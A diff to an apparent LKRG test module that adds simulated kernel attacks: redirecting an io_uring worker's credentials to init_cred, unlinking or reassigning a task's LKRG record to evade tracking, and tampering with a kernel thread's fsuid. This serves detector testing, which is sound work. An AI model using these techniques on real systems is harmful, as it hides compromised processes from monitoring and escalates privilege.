@@ -35,6 +35,8 @@
 #include <linux/key.h>
 #include <linux/kmemleak.h>
 #include <linux/kprobes.h>
+#include <linux/kthread.h>
+#include <linux/list.h>
 #include <linux/lsm_hooks.h>
 #include <linux/miscdevice.h>
 #include <linux/mm.h>
@@ -61,6 +63,7 @@
 #include <linux/string.h>
 #include <linux/thread_info.h>
 #include <linux/time_namespace.h>
+#include <linux/uaccess.h>
 #include <linux/user_namespace.h>
 #include <linux/utsname.h>
 #include <linux/vmalloc.h>
@@ -77,6 +80,9 @@ MODULE_PARM_DESC(changed, "What was changed in the kernel image (read only)");
 
 /* Who owns the file that is read with it, see attack_victim.c */
 #define ATTACK_GID	2001
+
+/* Whoever root is not */
+#define ATTACK_UID	1000
 
 /**
  * struct attack - One row of the table of attacks
@@ -338,6 +344,26 @@ static int forge_cred(struct task_struct *task, size_t field)
 	put_cred_many(old, 2);
 	put_cred(init);
 	return 0;
+}
+
+/* A worker of io_uring: a thread of the task's, but it runs no program */
+static int redirect_worker(struct task_struct *task, size_t field)
+{
+	struct task_struct *thread, *worker = NULL;
+	int err;
+
+	rcu_read_lock();
+	for_each_thread(task, thread)
+		if (thread->flags & PF_IO_WORKER)
+			worker = thread;
+	if (worker)
+		get_task_struct(worker);
+	rcu_read_unlock();
+	if (!worker)
+		return -ESRCH;
+	err = redirect_both(worker, field);
+	put_task_struct(worker);
+	return err;
 }
 
 /* === Credentials, by the kernel's functions from a hijacked flow ======== */
@@ -681,6 +707,114 @@ static int hide_from_idr(struct task_struct *task, size_t field)
 	return 0;
 }
 
+/* Where the record of a task begins among those of all modules */
+static ulong lkrg_blob_sizes_at;
+module_param_named(lkrg_blob_sizes, lkrg_blob_sizes_at, ulong, 0400);
+MODULE_PARM_DESC(lkrg_blob_sizes, "Address of that object");
+
+/* What is in a record only lkrg knows, but it is not longer than that. */
+#define RECORD_WORDS	(320 / sizeof(ulong))
+
+static ulong *record_of(struct task_struct *task)
+{
+	const struct lsm_blob_sizes *const sizes = (void *)lkrg_blob_sizes_at;
+
+	return sizes ? task->security + sizes->lbs_task : NULL;
+}
+
+/* Two words that lead to others, which lead back: nothing else does */
+static bool is_list_node(const struct list_head *node)
+{
+	struct list_head next, prev;
+
+	return node->next != node &&
+	       !copy_from_kernel_nofault(&next, node->next, sizeof(next)) &&
+	       !copy_from_kernel_nofault(&prev, node->prev, sizeof(prev)) &&
+	       next.prev == node && prev.next == node;
+}
+
+static int hide_record(struct task_struct *task, size_t field)
+{
+	ulong *const record = record_of(task);
+	struct list_head *node;
+	size_t i;
+
+	if (!record)
+		return -ENOENT;
+	for (i = 0; i + 1 < RECORD_WORDS; i++) {
+		node = (struct list_head *)&record[i];
+		if (!is_list_node(node))
+			continue;
+		node->prev->next = node->next;
+		node->next->prev = node->prev;
+		INIT_LIST_HEAD(node);
+		return 0;
+	}
+	return -ESRCH;
+}
+
+/* As if the record were that of init_task, which is in no list */
+static int give_record_away(struct task_struct *task, size_t field)
+{
+	ulong *const record = record_of(task);
+	size_t i;
+
+	if (!record)
+		return -ENOENT;
+	for (i = 0; i < RECORD_WORDS; i++) {
+		if (record[i] != (ulong)task)
+			continue;
+		WRITE_ONCE(record[i], (ulong)&init_task);
+		return 0;
+	}
+	return -ESRCH;
+}
+
+/* === A kernel thread ==================================================== */
+
+static struct task_struct *sleeper;
+
+static int sleep_on(void *unused)
+{
+	set_current_state(TASK_IDLE);
+	while (!kthread_should_stop()) {
+		schedule();
+		set_current_state(TASK_IDLE);
+	}
+	__set_current_state(TASK_RUNNING);
+	return 0;
+}
+
+static int start_sleeper(struct task_struct *task, size_t field)
+{
+	struct task_struct *new;
+
+	if (sleeper)
+		return -EBUSY;
+	new = kthread_run(sleep_on, NULL, "lkrg_sleeper");
+	if (IS_ERR(new))
+		return PTR_ERR(new);
+	sleeper = new;
+	return 0;
+}
+
+static int stop_sleeper(struct task_struct *task, size_t field)
+{
+	if (!sleeper)
+		return -ESRCH;
+	kthread_stop(sleeper);
+	sleeper = NULL;
+	return 0;
+}
+
+static int overwrite_sleeper(struct task_struct *task, size_t field)
+{
+	if (!sleeper)
+		return -ESRCH;
+	WRITE_ONCE(cred_of(sleeper)->fsuid.val, ATTACK_UID);
+	return 0;
+}
+
 /* === The kernel image =================================================== */
 
 /*
@@ -842,6 +976,8 @@ static const struct attack attacks[] = {
 	ATTACK("cred-only", redirect_cred, "only ->cred to init_cred"),
 	ATTACK("cred-real", redirect_real_cred, "only ->real_cred to init_cred"),
 	ATTACK("cred-forged", forge_cred, "both pointers to a forged credential"),
+	ATTACK("worker-init", redirect_worker,
+	       "both pointers of an io_uring worker to init_cred"),
 	ATTACK("commit-init", commit_init, "commit_creds(&init_cred)"),
 	ATTACK("commit-kernel", commit_kernel,
 	       "commit_creds(prepare_kernel_cred(&init_task))"),
@@ -882,6 +1018,11 @@ static const struct attack attacks[] = {
 	ATTACK("hide-tasks", hide_from_tasks, "off the list of tasks"),
 	ATTACK("hide-pid", hide_from_pid, "its pid leads nowhere"),
 	ATTACK("hide-idr", hide_from_idr, "its pid is not in the table"),
+	ATTACK("hide-record", hide_record, "its record off the list of lkrg"),
+	ATTACK("hide-owner", give_record_away, "its record seems to be that of init_task"),
+	ATTACK("kthread-start", start_sleeper, "a kernel thread is there, and sleeps"),
+	ATTACK("kthread-fsuid", overwrite_sleeper, "its fsuid becomes 1000"),
+	ATTACK("kthread-stop", stop_sleeper, "it ends"),
 	{
 		.name = "parent-fsuid",
 		.what = "the fsuid of the parent becomes 0",
@@ -1007,6 +1148,7 @@ static void __exit attack_exit(void)
 	if (exec_probe.addr)
 		unregister_kprobe(&exec_probe);
 #endif
+	stop_sleeper(NULL, 0);
 	restore(&text_change);
 	restore(&rodata_change);
 }
